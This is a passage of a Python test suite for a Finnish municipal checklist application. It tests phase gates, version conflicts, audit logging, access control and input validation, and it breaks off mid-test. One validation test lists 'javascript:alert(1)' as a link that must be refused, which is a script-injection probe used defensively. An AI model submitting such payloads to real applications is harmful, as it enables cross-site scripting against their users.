"""polku/checklists.py on SQLite and PostgreSQL: gates, version conflicts, audit rows, own items,
access refusals that write nothing, validation messages, the region matrix, deadlines, the
municipality setup and the Excel file for the steering group."""

from __future__ import annotations

import io
from datetime import date, datetime

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine, func, select, update

from models import metadata
from polku import checklists, i18n, metrics
from polku.access import AccessDenied, Actor
from polku.checklists import ChecklistError, ItemEdit, StaleEdit

TODAY = date(2026, 11, 29)
JOENSUU, LIEKSA = "167", "422"

ADMIN = Actor(email="paakayttaja@example.fi", role="admin")
COORDINATOR = Actor(
    email="k.joensuu@example.fi", role="coordinator", municipalities=frozenset({JOENSUU})
)
COLLEAGUE = Actor(
    email="k2.joensuu@example.fi", role="coordinator", municipalities=frozenset({JOENSUU})
)
OTHER_COORDINATOR = Actor(
    email="k.lieksa@example.fi", role="coordinator", municipalities=frozenset({LIEKSA})
)
DIRECTOR = Actor(email="johtaja@example.fi", role="director", municipalities=frozenset({JOENSUU}))
ANALYST = Actor(email="analyytikko@example.fi", role="analyst")

_item = metadata.tables["checklist_item"]
_audit = metadata.tables["audit_log"]
_setup = metadata.tables["municipality_setup"]
_service = metadata.tables["municipality_service"]


# --- helpers ----------------------------------------------------------------------------------


def _items(engine: Engine, municipality: str | None = JOENSUU) -> pd.DataFrame:
    return checklists.read_checklist(engine, ADMIN, municipality).items


def _phases(engine: Engine, municipality: str | None = JOENSUU) -> pd.DataFrame:
    return checklists.read_checklist(engine, ADMIN, municipality).phases.set_index("phase")


def _ids(engine: Engine, phase: str, municipality: str | None = JOENSUU) -> list[int]:
    items = _items(engine, municipality)
    return [int(i) for i in items.loc[items["phase"] == phase, "id"]]


def _set(engine: Engine, ids: list[int], **values: object) -> None:
    """Change items behind polku's back (as another process would), bumping their versions."""
    with engine.begin() as conn:
        conn.execute(
            update(_item).where(_item.c.id.in_(ids)).values(**values, version=_item.c.version + 1)
        )


def _row(engine: Engine, item_id: int) -> dict:
    with engine.connect() as conn:
        return dict(conn.execute(select(_item).where(_item.c.id == item_id)).mappings().one())


def _audit_rows(engine: Engine, entity: str = checklists.ITEM_ENTITY) -> list[dict]:
    with engine.connect() as conn:
        return [
            dict(r)
            for r in conn.execute(
                select(_audit).where(_audit.c.entity == entity).order_by(_audit.c.id)
            ).mappings()
        ]


def _count(engine: Engine, table=_item) -> int:
    with engine.connect() as conn:
        return int(conn.execute(select(func.count()).select_from(table)).scalar_one())


def _fi(key: str, **values: str) -> str:
    return i18n.t(key, "fi", **values)


# --- gates ------------------------------------------------------------------------------------


def test_a_fresh_checklist_is_in_its_first_phase_with_the_plans_items(engine: Engine) -> None:
    checklist = checklists.read_checklist(engine, COORDINATOR, JOENSUU)
    phases = checklist.phases
    assert list(phases["phase"]) == ["mapping", "preparation", "pilot", "stabilisation"]
    assert list(phases["total"]) == [2, 6, 1, 3]
    assert list(phases["done"]) == [0, 0, 0, 0]
    assert list(phases["current"]) == [True, False, False, False]
    assert not phases["complete"].any() and not phases["flagged"].any()
    assert checklist.current_phase() == "mapping"
    items = checklist.items
    assert items.loc[0, "name_fi"] == "Kuntakohtaisen tilanteen selvittäminen"
    assert items.loc[0, "name_en"] == "Survey of the municipality's situation"
    assert items["required"].all() and not items["own"].any()
    assert set(items["status"]) == {"not_started"} and set(items["version"]) == {1}


def test_the_region_checklist_is_work_package_two(engine: Engine) -> None:
    checklist = checklists.read_checklist(engine, COORDINATOR, None)
    assert list(checklist.phases["work_package"]) == ["WP2"] * 4
    assert list(checklist.phases["total"]) == [3, 2, 2, 3]
    assert checklist.items["municipality"].isna().all()
    assert checklist.current_phase() == "launch"


def test_a_phase_is_complete_when_every_required_item_is_done_or_not_applicable(
    engine: Engine,
) -> None:
    _set(engine, _ids(engine, "mapping"), status="done")
    preparation = _ids(engine, "preparation")
    _set(engine, preparation[:5], status="done")
    phases = _phases(engine)
    assert phases.loc["mapping", "complete"] and not phases.loc["preparation", "complete"]
    assert phases.loc["preparation", "current"]
    assert phases.loc["preparation", "required"] - phases.loc["preparation", "required_done"] == 1

    _set(engine, preparation[5:], status="not_applicable")  # counts as done
    phases = _phases(engine)
    assert phases.loc["preparation", "complete"]
    assert phases.loc["preparation", "done"] == 6
    assert checklists.read_checklist(engine, COORDINATOR, JOENSUU).current_phase() == "pilot"


def test_blocked_and_in_progress_items_keep_a_phase_open(engine: Engine) -> None:
    mapping = _ids(engine, "mapping")
    _set(engine, mapping[:1], status="done")
    _set(engine, mapping[1:], status="blocked")
    assert _phases(engine).loc["mapping", "current"]
    _set(engine, mapping[1:], status="in_progress")
    assert not _phases(engine).loc["mapping", "complete"]


def test_optional_items_do_not_hold_a_phase_back_but_required_own_items_do(
    engine: Engine,
) -> None:
    _set(engine, _ids(engine, "mapping"), status="done")
    mapping_id = int(_phases(engine).loc["mapping", "phase_id"])
    checklists.add_item(engine, COORDINATOR, JOENSUU, mapping_id, "Kuntakierros", required=False)
    phases = _phases(engine)
    assert phases.loc["mapping", "complete"]
    assert (phases.loc["mapping", "done"], phases.loc["mapping", "total"]) == (2, 3)

    checklists.add_item(
        engine, COORDINATOR, JOENSUU, mapping_id, "Valtuustoseminaari", required=True
    )
    phases = _phases(engine)
    assert not phases.loc["mapping", "complete"] and phases.loc["mapping", "current"]


def test_a_phase_without_required_items_is_complete(engine: Engine) -> None:
    for phase in ("mapping", "preparation", "pilot"):
        _set(engine, _ids(engine, phase), status="done")
    _set(engine, _ids(engine, "stabilisation"), required=False)  # nothing required in the last
    phases = _phases(engine)
    assert phases.loc["stabilisation", "complete"]
    assert phases.loc["stabilisation", "done"] == 0 and phases.loc["stabilisation", "total"] == 3
    assert not phases["current"].any()
    assert checklists.read_checklist(engine, COORDINATOR, JOENSUU).current_phase() is None


def test_work_on_a_later_phase_is_allowed_but_flagged(engine: Engine) -> None:
    pilot = _ids(engine, "pilot")
    stabilisation = _ids(engine, "stabilisation")
    checklists.save_items(engine, COORDINATOR, [ItemEdit(pilot[0], 1, {"status": "in_progress"})])
    _set(engine, stabilisation[:1], status="blocked")  # blocked is not work started
    phases = _phases(engine)
    assert phases.loc["mapping", "current"]
    assert list(phases["flagged"]) == [False, False, True, False]
    _set(engine, stabilisation[1:2], status="done")
    assert list(_phases(engine)["flagged"]) == [False, False, True, True]
    # Once the earlier phases are complete, the pilot is simply the current phase
    for phase in ("mapping", "preparation"):
        _set(engine, _ids(engine, phase), status="done")
    phases = _phases(engine)
    assert phases.loc["pilot", "current"] and not phases.loc["pilot", "flagged"]
    assert phases.loc["stabilisation", "flagged"]


def test_evaluate_gates_by_hand() -> None:
    counts = pd.DataFrame(
        {
            "work_package": ["W"] * 4,
            "position": [1, 2, 3, 4],
            "required": [2, 0, 3, 1],
            "required_done": [2, 0, 1, 0],
            "started": [2, 1, 1, 1],
        }
    )
    gated = checklists.evaluate_gates(counts)
    assert list(gated["complete"]) == [True, True, False, False]
    assert list(gated["current"]) == [False, False, True, False]
    assert list(gated["flagged"]) == [False, False, False, True]


def test_done_and_total_are_those_of_the_metrics(engine: Engine) -> None:
    _set(engine, _ids(engine, "mapping")[:1], status="done")
    _set(engine, _ids(engine, "preparation")[:2], status="not_applicable")
    phases = checklists.read_checklist(engine, COORDINATOR, JOENSUU).phases
    progress = metrics.phase_progress(engine, COORDINATOR, JOENSUU)
    assert list(phases["done"]) == list(progress["done"]) == [1, 2, 0, 0]
    assert list(phases["total"]) == list(progress["total"])


# --- saving and version conflicts ---------------------------------------------------------------


def test_a_save_bumps_the_version_and_audits_every_changed_field(engine: Engine) -> None:
    item = _ids(engine, "mapping")[0]
    result = checklists.save_items(
        engine,
        COORDINATOR,
        [
            ItemEdit(
                item,
                1,
                {
                    "status": "in_progress",
                    "owner": "Kunnan työllisyyskoordinaattori",
                    "due_date": "2027-01-31",
                    "note": None,  # unchanged: empty before and after
                },
            )
        ],
    )
    assert result.changed == {item: ["status", "owner", "due_date"]}
    row = _row(engine, item)
    assert row["version"] == 2
    assert row["status"] == "in_progress" and row["due_date"] == date(2027, 1, 31)
    assert row["updated_by"] == COORDINATOR.email and row["updated_at"] is not None

    history = checklists.item_history(engine, ANALYST, item)
    assert set(history["field"]) == {"status", "owner", "due_date"}
    status = history[history["field"] == "status"].iloc[0]
    assert (status["old_value"], status["new_value"]) == ("not_started", "in_progress")
    assert set(history["user_email"]) == {COORDINATOR.email}
    audit_rows = _audit_rows(engine)
    assert {r["municipality_code"] for r in audit_rows} == {JOENSUU}
    assert {r["entity_id"] for r in audit_rows} == {str(item)}
    versions = checklists.item_history(engine, ANALYST, item, include_versions=True)
    version = versions[versions["field"] == "version"].iloc[0]
    assert (version["old_value"], version["new_value"]) == ("1", "2")

    # Saving the same values again changes nothing: no new version, no audit rows
    again = checklists.save_items(
        engine, COORDINATOR, [ItemEdit(item, 2, {"status": "in_progress"})]
    )
    assert again.changed == {}
    assert _row(engine, item)["version"] == 2
    assert len(_audit_rows(engine)) == len(audit_rows)


def test_the_later_of_two_saves_of_one_item_is_refused_and_writes_nothing(engine: Engine) -> None:
    item = _ids(engine, "preparation")[1]
    first_read = _items(engine).set_index("id").loc[item]
    second_read = _items(engine).set_index("id").loc[item]
    assert first_read["version"] == second_read["version"] == 1

    checklists.save_items(
        engine, COORDINATOR, [ItemEdit(item, 1, {"status": "done", "owner": "Tilapalvelut"})]
    )
    seen = {name: second_read[name] for name in checklists.EDITABLE_FIELDS}
    with pytest.raises(StaleEdit) as refused:
        checklists.save_items(
            engine,
            COLLEAGUE,
            [ItemEdit(item, 1, {"status": "blocked", "note": "Odottaa päätöstä"}, seen=seen)],
        )
    (conflict,) = refused.value.conflicts
    assert conflict.entity_id == str(item) and conflict.name_fi == "Tilat"
    assert conflict.changed_by == COORDINATOR.email
    assert conflict.changed_at is not None
    assert (conflict.read_version, conflict.version) == (1, 2)
    assert conflict.current["status"] == "done"
    assert [(c.field, c.old, c.new) for c in conflict.changes] == [
        ("status", "not_started", "done"),
        ("owner", None, "Tilapalvelut"),
    ]
    assert conflict.yours == {"status": "blocked", "note": "Odottaa päätöstä"}
    message = conflict.message("fi")
    assert message.startswith(f"Tilat: {COORDINATOR.email} muutti tätä ")
    assert "Tila: Ei aloitettu \u2192 Valmis" in message
    # Nothing of the second save was written
    row = _row(engine, item)
    assert (row["status"], row["note"], row["version"]) == ("done", None, 2)
    assert {r["user_email"] for r in _audit_rows(engine)} == {COORDINATOR.email}


def test_a_save_of_several_items_is_all_or_nothing(engine: Engine) -> None:
    first, second, third = _ids(engine, "preparation")[:3]
    checklists.save_items(engine, COLLEAGUE, [ItemEdit(second, 1, {"status": "done"})])
    before = len(_audit_rows(engine))
    with pytest.raises(StaleEdit) as refused:
        checklists.save_items(
            engine,
            COORDINATOR,
            [
                ItemEdit(first, 1, {"status": "in_progress"}),
                ItemEdit(second, 1, {"status": "blocked"}),
                ItemEdit(third, 1, {"owner": "Talouspäällikkö"}),
            ],
        )
    assert [c.entity_id for c in refused.value.conflicts] == [str(second)]
    assert "Tilat" in str(refused.value)
    assert (_row(engine, first)["status"], _row(engine, first)["version"]) == ("not_started", 1)
    assert (_row(engine, third)["owner"], _row(engine, third)["version"]) == (None, 1)
    assert len(_audit_rows(engine)) == before


def test_the_write_itself_checks_the_version(
    engine: Engine, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Someone saves between our read of the row and our UPDATE: WHERE version refuses it."""
    item = _ids(engine, "pilot")[0]
    _set(engine, [item], status="done", updated_by="toinen@example.fi")  # now version 2
    real_rows = checklists._item_rows

    def stale_read(conn, ids):  # the read still saw version 1
        rows = real_rows(conn, ids)
        return {i: {**row, "version": 1} for i, row in rows.items()}

    monkeypatch.setattr(checklists, "_item_rows", stale_read)
    with pytest.raises(StaleEdit):
        checklists.save_items(engine, COORDINATOR, [ItemEdit(item, 1, {"status": "blocked"})])
    monkeypatch.undo()
    row = _row(engine, item)
    assert (row["status"], row["version"]) == ("done", 2)
    assert _audit_rows(engine) == []


def test_a_conflict_without_audit_rows_compares_with_what_the_user_saw(engine: Engine) -> None:
    item = _ids(engine, "pilot")[0]
    seen = dict.fromkeys(checklists.EDITABLE_FIELDS) | {"status": "not_started"}
    _set(engine, [item], status="done", updated_by="toinen@example.fi")
    with pytest.raises(StaleEdit) as refused:
        checklists.save_items(
            engine, COORDINATOR, [ItemEdit(item, 1, {"note": "Käynnistyi"}, seen=seen)]
        )
    (conflict,) = refused.value.conflicts
    assert conflict.changed_by == "toinen@example.fi"
    assert [(c.field, c.old, c.new) for c in conflict.changes] == [
        ("status", "not_started", "done")
    ]


# --- own items ----------------------------------------------------------------------------------


def test_a_coordinator_adds_and_removes_an_own_item(engine: Engine) -> None:
    phase_id = int(_phases(engine).loc["pilot", "phase_id"])
    added = checklists.add_item(
        engine, COORDINATOR, JOENSUU, phase_id, "Pilottiryhmän kokoaminen", owner="Työvalmentaja"
    )
    assert added.item_id is not None
    items = _items(engine).set_index("id")
    own = items.loc[added.item_id]
    assert own["own"] and not own["required"] and own["phase"] == "pilot"
    assert own["name_fi"] == own["name_en"] == "Pilottiryhmän kokoaminen"
    assert own["version"] == 1 and own["status"] == "not_started"
    created = [r for r in _audit_rows(engine) if r["action"] == "create"]
    assert {r["field"] for r in created} >= {"title", "required", "owner", "phase_id"}

    # An own item's title and weight can change; the plan's items' cannot
    checklists.save_items(
        engine,
        COORDINATOR,
        [ItemEdit(added.item_id, 1, {"title": "Pilottiryhmä", "required": True})],
    )
    assert _row(engine, added.item_id)["required"] is True
    template = _ids(engine, "pilot")[0]
    with pytest.raises(ChecklistError) as refused:
        checklists.save_items(engine, COORDINATOR, [ItemEdit(template, 1, {"title": "Uusi nimi"})])
    assert refused.value.problems[0].key == "checklists.error.read_only"

    checklists.remove_item(engine, COORDINATOR, added.item_id, 2)
    assert added.item_id not in set(_items(engine)["id"])
    removed = [r for r in _audit_rows(engine) if r["action"] == "delete"]
    assert {(r["field"], r["old_value"]) for r in removed} >= {("title", "Pilottiryhmä")}
    # The removed item's history stays readable
    history = checklists.item_history(engine, COORDINATOR, added.item_id)
    assert set(history["action"]) == {"create", "update", "delete"}
    assert set(history["name_fi"]) == {"Pilottiryhmä"}


def test_the_plans_items_cannot_be_removed(engine: Engine) -> None:
    item = _ids(engine, "mapping")[0]
    with pytest.raises(ChecklistError) as refused:
        checklists.remove_item(engine, ADMIN, item, 1)
    assert refused.value.problems[0].message() == _fi(
        "checklists.error.template_item", item="Kuntakohtaisen tilanteen selvittäminen"
    )
    assert _row(engine, item)["version"] == 1


def test_only_whoever_added_an_item_or_an_admin_removes_it(engine: Engine) -> None:
    phase_id = int(_phases(engine).loc["mapping", "phase_id"])
    added = checklists.add_item(engine, COORDINATOR, JOENSUU, phase_id, "Oma")
    assert added.item_id is not None
    with pytest.raises(ChecklistError) as refused:
        checklists.remove_item(engine, COLLEAGUE, added.item_id, 1)
    assert refused.value.problems[0].key == "checklists.error.not_creator"
    with pytest.raises(StaleEdit):  # the admin read an older version
        checklists.remove_item(engine, ADMIN, added.item_id, 0)
    checklists.remove_item(engine, ADMIN, added.item_id, 1)
    assert added.item_id not in set(_items(engine)["id"])


def test_own_items_need_a_name_and_a_phase_of_the_right_checklist(engine: Engine) -> None:
    mapping = int(_phases(engine).loc["mapping", "phase_id"])
    launch = int(_phases(engine, None).loc["launch", "phase_id"])
    before = _count(engine)
    with pytest.raises(ChecklistError) as refused:
        checklists.add_item(engine, COORDINATOR, JOENSUU, mapping, "   ")
    assert refused.value.problems[0].key == "checklists.error.title_required"
    with pytest.raises(ChecklistError) as refused:
        checklists.add_item(engine, COORDINATOR, JOENSUU, launch, "Väärä vaihe")
    assert refused.value.problems[0].key == "checklists.error.phase"
    assert _count(engine) == before


def test_region_items_are_added_by_admins_only(engine: Engine) -> None:
    launch = int(_phases(engine, None).loc["launch", "phase_id"])
    before = _count(engine)
    with pytest.raises(AccessDenied):
        checklists.add_item(engine, COORDINATOR, None, launch, "Verkostotapaaminen")
    assert _count(engine) == before
    added = checklists.add_item(engine, ADMIN, None, launch, "Verkostotapaaminen")
    assert added.item_id in set(_items(engine, None)["id"])


def test_a_coordinator_of_another_municipality_cannot_add(engine: Engine) -> None:
    mapping = int(_phases(engine).loc["mapping", "phase_id"])
    before = _count(engine)
    with pytest.raises(AccessDenied):
        checklists.add_item(engine, OTHER_COORDINATOR, JOENSUU, mapping, "Vieras")
    assert _count(engine) == before and _audit_rows(engine) == []


# --- access -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("actor", "region"),
    [(DIRECTOR, False), (ANALYST, False), (OTHER_COORDINATOR, False), (COORDINATOR, True)],
    ids=["director", "analyst", "other_coordinator", "coordinator_on_region_item"],
)
def test_refused_writes_write_nothing(engine: Engine, actor: Actor, region: bool) -> None:
    item = _ids(engine, "launch" if region else "mapping", None if region else JOENSUU)[0]
    with pytest.raises(AccessDenied):
        checklists.save_items(engine, actor, [ItemEdit(item, 1, {"status": "done"})])
    row = _row(engine, item)
    assert (row["status"], row["version"], row["updated_by"]) == ("not_started", 1, None)
    assert _audit_rows(engine) == []
    if not region:
        setup = checklists.read_setup(engine, ADMIN, JOENSUU)
        with pytest.raises(AccessDenied):
            checklists.save_setup(
                engine,
                actor,
                JOENSUU,
                version=setup.version,
                operating_model="local_actors",
                services=["low_threshold"],
            )
        assert checklists.read_setup(engine, ADMIN, JOENSUU) == setup


def test_one_refused_item_refuses_the_whole_save(engine: Engine) -> None:
    own = _ids(engine, "mapping")[0]
    region = _ids(engine, "launch", None)[0]
    with pytest.raises(AccessDenied):
        checklists.save_items(
            engine,
            COORDINATOR,
            [ItemEdit(own, 1, {"status": "done"}), ItemEdit(region, 1, {"status": "done"})],
        )
    assert _row(engine, own)["status"] == "not_started"


def test_who_reads_which_checklist(engine: Engine) -> None:
    lieksa_director = Actor(
        email="j@example.fi", role="director", municipalities=frozenset({LIEKSA})
    )
    assert not checklists.read_checklist(engine, lieksa_director, LIEKSA).items.empty
    assert not checklists.read_checklist(engine, lieksa_director, None).items.empty
    with pytest.raises(AccessDenied):
        checklists.read_checklist(engine, lieksa_director, JOENSUU)
    with pytest.raises(AccessDenied):
        checklists.item_history(engine, lieksa_director, _ids(engine, "mapping")[0])
    with pytest.raises(AccessDenied):
        checklists.recent_changes(engine, lieksa_director, JOENSUU)
    with pytest.raises(AccessDenied):
        checklists.read_checklist(engine, None, None)


# --- validation -------------------------------------------------------------------------------


def test_a_personal_identity_code_in_a_note_is_refused(engine: Engine) -> None:
    item = _ids(engine, "mapping")[0]
    with pytest.raises(ChecklistError) as refused:
        checklists.save_items(
            engine,
            COORDINATOR,
            [ItemEdit(item, 1, {"status": "done", "note": "Soitettu asiakkaalle 010594Y9021."})],
        )
    assert [p.message("fi") for p in refused.value.problems] == [
        "Kuntakohtaisen tilanteen selvittäminen, Huomautus: teksti sisältää henkilötunnuksen. "
        "Henkilötunnuksia ei saa tallentaa Polkuun."
    ]
    assert "010594Y9021" not in str(refused.value)  # the code is not echoed back
    row = _row(engine, item)
    assert (row["status"], row["note"], row["version"]) == ("not_started", None, 1)
    assert _audit_rows(engine) == []


@pytest.mark.parametrize("text", ["131052\u2013308T", "vastuu 131052 308T", "020504a902e"])
def test_hyphen_variants_and_lowercase_codes_are_refused_in_owners(
    engine: Engine, text: str
) -> None:
    item = _ids(engine, "mapping")[0]
    with pytest.raises(ChecklistError) as refused:
        checklists.save_items(engine, COORDINATOR, [ItemEdit(item, 1, {"owner": text})])
    assert refused.value.problems[0].key == "checklists.error.hetu"
    assert refused.value.problems[0].field == "owner"


GLUED = "HETU010594Y9021"  # a valid code right after letters (issue 12.2)


@pytest.mark.parametrize(
    ("field", "values"),
    [
        ("title", {"title": GLUED}),
        ("title", {"title": f"Soita {GLUED}"}),
        ("owner", {"owner": f"Vastuu{GLUED}"}),
        ("note", {"note": f"asiakas {GLUED}"}),
    ],
    ids=["title", "title-in-text", "owner", "note"],
)
def test_a_code_after_letters_is_refused_in_every_own_item_field_and_never_echoed(
    engine: Engine, field: str, values: dict
) -> None:
    phase_id = int(_phases(engine).loc["mapping", "phase_id"])
    args = {"title": "Oma tehtävä", **values}
    title = args.pop("title")
    before = len(_items(engine))
    with pytest.raises(ChecklistError) as refused:
        checklists.add_item(engine, COORDINATOR, JOENSUU, phase_id, title, **args)
    assert [(p.key, p.field) for p in refused.value.problems] == [("checklists.error.hetu", field)]
    messages = " ".join(p.message(lang) for p in refused.value.problems for lang in ("fi", "en"))
    assert "010594Y9021" not in messages + str(refused.value)
    assert len(_items(engine)) == before
    assert _audit_rows(engine) == []


def test_a_code_after_letters_is_refused_in_table_edits_and_the_setup(engine: Engine) -> None:
    item = _ids(engine, "mapping")[0]
    with pytest.raises(ChecklistError) as refused:
        checklists.save_items(engine, COORDINATOR, [ItemEdit(item, 1, {"note": GLUED})])
    assert refused.value.problems[0].key == "checklists.error.hetu"
    url = f"https://intra.example.fi/muistio?q={GLUED}"
    with pytest.raises(ChecklistError) as link:
        checklists.save_items(engine, COORDINATOR, [ItemEdit(item, 1, {"evidence_url": url})])
    assert [(p.key, p.field) for p in link.value.problems] == [
        ("checklists.error.hetu", "evidence_url")
    ]
    with pytest.raises(ChecklistError) as setup:
        checklists.save_setup(
            engine, COORDINATOR, JOENSUU, version=1, operating_model=None, services=[],
            coaching_environment=f"Paja{GLUED}",
        )  # fmt: skip
    assert setup.value.problems[0].key == "checklists.error.hetu"
    assert _row(engine, item)["note"] is None


def test_something_shaped_like_an_identity_code_is_saved_with_a_warning(engine: Engine) -> None:
    item = _ids(engine, "mapping")[0]
    result = checklists.save_items(
        engine, COORDINATOR, [ItemEdit(item, 1, {"note": "Diaarinumero 131052-308A"})]
    )
    assert [w.message("fi") for w in result.warnings] == [
        "Kuntakohtaisen tilanteen selvittäminen, Huomautus: teksti muistuttaa henkilötunnusta. "
        "Tarkista, ettei siinä ole henkilötietoja."
    ]
    assert _row(engine, item)["note"] == "Diaarinumero 131052-308A"


def test_every_problem_is_named_with_its_item_and_field(engine: Engine) -> None:
    first, second = _ids(engine, "preparation")[:2]
    with pytest.raises(ChecklistError) as refused:
        checklists.save_items(
            engine,
            COORDINATOR,
            [
                ItemEdit(first, 1, {"status": "valmis", "due_date": "31.2.2027"}),
                ItemEdit(second, 1, {"evidence_url": "www.joensuu.fi/muistio", "note": "x" * 2001}),
            ],
        )
    assert [p.message("fi") for p in refused.value.problems] == [
        "Asiakasohjaus: tila ”valmis” ei ole sallittu.",
        "Asiakasohjaus: määräaika ”31.2.2027” ei ole päivämäärä.",
        "Tilat: Näyttö (linkki) ei ole verkko-osoite. Anna osoite, joka alkaa http:// tai https://.",
        "Tilat, Huomautus: enintään 2\u00a0000 merkkiä (nyt 2\u00a0001).",
    ]
    assert [(p.item_id, p.field) for p in refused.value.problems] == [
        (first, "status"),
        (first, "due_date"),
        (second, "evidence_url"),
        (second, "note"),
    ]
    assert _row(engine, first)["version"] == _row(engine, second)["version"] == 1


@pytest.mark.parametrize(
    ("url", "ok"),
    [
        ("https://intra.joensuu.fi/muistiot/ohjausryhma.pdf", True),
        ("http://example.fi", True),
        ("javascript:alert(1)", False),
        ("ftp://example.fi/x", False),
        ("https://", False),
        ("https://example.fi/a b", False),
    ],
)
def test_evidence_links_are_web_addresses(engine: Engine, url: str, ok: bool) -> None:
    item = _ids(engine, "mapping")[0]
    edit = [ItemEdit(item, 1, {"evidence_url": url})]
    if ok:
        checklists.save_items(engine, COORDINATOR, edit)
        assert _row(engine, item)["evidence_url"] == url
    else:
        with pytest.raises(ChecklistError):
            checklists.save_items(engine, COORDINATOR, edit)


def test_due_dates_from_an_editor_or_a_form(engine: Engine) -> None:
    item = _ids(engine, "mapping")[0]
    for version, value in enumerate(
        [
            date(2027, 1, 2),
            "2027-01-03",
            "2027-01-04T00:00:00",
            pd.Timestamp("2027-01-05"),
            "6.1.2027",
        ],
        start=1,
    ):
        checklists.save_items(engine, COORDINATOR, [ItemEdit(item, version, {"due_date": value})])
    assert _row(engine, item)["due_date"] == date(2027, 1, 6)
    checklists.save_items(engine, COORDINATOR, [ItemEdit(item, 6, {"due_date": None})])
    assert _row(engine, item)["due_date"] is None


# --- region matrix and deadlines ----------------------------------------------------------------


def test_the_region_matrix_against_hand_counted_values(engine: Engine) -> None:
    _set(engine, _ids(engine, "mapping"), status="done")
    preparation = _ids(engine, "preparation")
    _set(engine, preparation[:3], status="done")
    _set(engine, preparation[3:4], status="not_applicable")
    _set(engine, _ids(engine, "pilot"), status="in_progress")
    _set(engine, _ids(engine, "mapping", LIEKSA)[:1], status="done")

    matrix = checklists.region_matrix(engine, COORDINATOR)
    assert list(matrix.columns) == checklists.MATRIX_COLUMNS
    assert len(matrix) == 13 * 4
    assert list(matrix["municipality_name"].drop_duplicates())[:3] == [
        "Heinävesi",
        "Ilomantsi",
        "Joensuu",
    ]
    cells = matrix.set_index(["municipality", "phase"])
    expected = {
        # (municipality, phase): (done, total, complete, current, flagged)
        (JOENSUU, "mapping"): (2, 2, True, False, False),
        (JOENSUU, "preparation"): (4, 6, False, True, False),
        (JOENSUU, "pilot"): (0, 1, False, False, True),
        (JOENSUU, "stabilisation"): (0, 3, False, False, False),
        (LIEKSA, "mapping"): (1, 2, False, True, False),
        (LIEKSA, "preparation"): (0, 6, False, False, False),
        ("707", "mapping"): (0, 2, False, True, False),
    }
    for key, values in expected.items():
        row = cells.loc[key]
        got = (row["done"], row["total"], row["complete"], row["current"], row["flagged"])
        assert got == values, key
    assert cells.loc[(JOENSUU, "preparation"), "share"] == pytest.approx(4 / 6)
    assert cells.loc[(LIEKSA, "stabilisation"), "share"] == 0.0
    # Exactly one current phase per municipality, and the same counts as each checklist shows
    assert (matrix.groupby("municipality")["current"].sum() == 1).all()
    for code in (JOENSUU, LIEKSA, "090"):
        mine = matrix[matrix["municipality"] == code]
        progress = metrics.phase_progress(engine, ANALYST, code)
        assert list(mine["done"]) == list(progress["done"])
        assert list(mine["total"]) == list(progress["total"])


def _due(engine: Engine, item_id: int, due: date, status: str = "not_started") -> None:
    _set(engine, [item_id], due_date=due, status=status)


def test_deadlines_list_overdue_and_upcoming_open_items_the_user_may_see(engine: Engine) -> None:
    joensuu = _ids(engine, "preparation")
    _due(engine, joensuu[0], date(2026, 11, 20))  # overdue
    _due(engine, joensuu[1], date(2026, 12, 10), "in_progress")  # upcoming
    _due(engine, joensuu[2], date(2026, 11, 29), "blocked")  # due today
    _due(engine, joensuu[3], date(2026, 11, 25), "done")  # done: not listed
    _due(engine, joensuu[4], date(2027, 2, 1))  # beyond 30 days
    _due(engine, joensuu[5], date(2026, 12, 29))  # day 30: listed
    lieksa = _ids(engine, "mapping", LIEKSA)[0]
    _due(engine, lieksa, date(2026, 12, 1))
    region = _ids(engine, "launch", None)[0]
    _due(engine, region, date(2026, 12, 5))

    everything = checklists.deadlines(engine, ADMIN, TODAY)
    assert list(everything["id"]) == [
        joensuu[0],
        joensuu[2],
        lieksa,
        region,
        joensuu[1],
        joensuu[5],
    ]
    assert list(everything["days_left"]) == [-9, 0, 2, 6, 11, 30]
    assert list(everything["overdue"]) == [True, False, False, False, False, False]
    assert everything.loc[0, "municipality_name"] == "Joensuu"
    assert everything.loc[0, "name_fi"] == "Asiakasohjaus"
    assert everything.loc[3, "municipality"] is None
    mine = checklists.deadlines(engine, COORDINATOR, TODAY)
    assert lieksa not in set(mine["id"]) and region in set(mine["id"])
    director = checklists.deadlines(engine, DIRECTOR, TODAY)
    assert set(director["id"]) == set(mine["id"])


# --- history ----------------------------------------------------------------------------------


def test_recent_changes_of_a_municipality_name_the_items(engine: Engine) -> None:
    first, second = _ids(engine, "mapping")
    checklists.save_items(engine, COORDINATOR, [ItemEdit(first, 1, {"status": "done"})])
    checklists.save_items(engine, COLLEAGUE, [ItemEdit(second, 1, {"owner": "Elinvoimajohtaja"})])
    checklists.save_items(
        engine,
        OTHER_COORDINATOR,
        [ItemEdit(_ids(engine, "mapping", LIEKSA)[0], 1, {"status": "done"})],
    )
    recent = checklists.recent_changes(engine, DIRECTOR, JOENSUU)
    assert list(recent["field"]) == ["owner", "status"]
    assert list(recent["name_fi"]) == [
        "Paikallisen toimintamallin valinta",
        "Kuntakohtaisen tilanteen selvittäminen",
    ]
    assert list(recent["user_email"]) == [COLLEAGUE.email, COORDINATOR.email]


# --- setup ------------------------------------------------------------------------------------


def test_the_setup_is_saved_with_a_version_check(engine: Engine) -> None:
    first = checklists.read_setup(engine, COORDINATOR, JOENSUU)
    second = checklists.read_setup(engine, COLLEAGUE, JOENSUU)
    assert first.operating_model is None and first.services == ()
    result = checklists.save_setup(
        engine,
        COORDINATOR,
        JOENSUU,
        version=first.version,
        operating_model="social_enterprise",
        services=["work_capacity_assessment", "low_threshold"],
        coaching_environment="Taitamo",
        seen=first,
    )
    assert result.setup_changed == ["operating_model_code", "coaching_environment", "services"]
    saved = checklists.read_setup(engine, ANALYST, JOENSUU)
    assert saved.operating_model == "social_enterprise"
    assert saved.services == ("low_threshold", "work_capacity_assessment")
    assert saved.version == first.version + 1 and saved.updated_by == COORDINATOR.email

    with pytest.raises(StaleEdit) as refused:
        checklists.save_setup(
            engine,
            COLLEAGUE,
            JOENSUU,
            version=second.version,
            operating_model="local_actors",
            services=[],
            seen=second,
        )
    (conflict,) = refused.value.conflicts
    assert conflict.entity == checklists.SETUP_ENTITY and conflict.changed_by == COORDINATOR.email
    assert ("operating_model_code", None, "social_enterprise") in [
        (c.field, c.old, c.new) for c in conflict.changes
    ]
    assert checklists.read_setup(engine, ANALYST, JOENSUU) == saved

    # A service dropped and another added; the audit log has each field once per save
    checklists.save_setup(
        engine,
        COLLEAGUE,
        JOENSUU,
        version=saved.version,
        operating_model="social_enterprise",
